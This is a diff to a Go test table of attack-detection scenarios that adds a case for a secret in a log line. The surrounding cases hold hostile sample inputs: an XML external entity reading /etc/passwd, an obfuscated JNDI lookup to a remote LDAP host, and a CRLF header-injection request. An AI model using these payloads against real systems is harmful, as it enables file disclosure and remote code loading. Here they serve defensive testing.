@@ -40,6 +40,7 @@ func attackCases() []scenario {
 		{"External entity attempt", one(log(`body <!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>`)), one(log(`body <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN">`))},
 		{"Lookup injection attempt", one(log("agent ${${lower:j}ndi:ldap://203.0.113.9/a}")), one(log("value ${name} was not set"))},
 		{"Header injection attempt", get("/p?to=x%0d%0aSet-Cookie:%20a=b"), get("/p?note=a%0d%0ab")},
+		{"Secret in a log", one(log("login password=[tutela:secret] for anna")), []*event.Event{log("login token=expired for anna")}},
 		{"Secret in a log", one(log("connect to postgres://app:hunter2secret@db/clinic")), []*event.Event{log("password=[redacted] for anna"), log("the password: invalid"), log("https://host/path?token=***")}},
 	}
 }
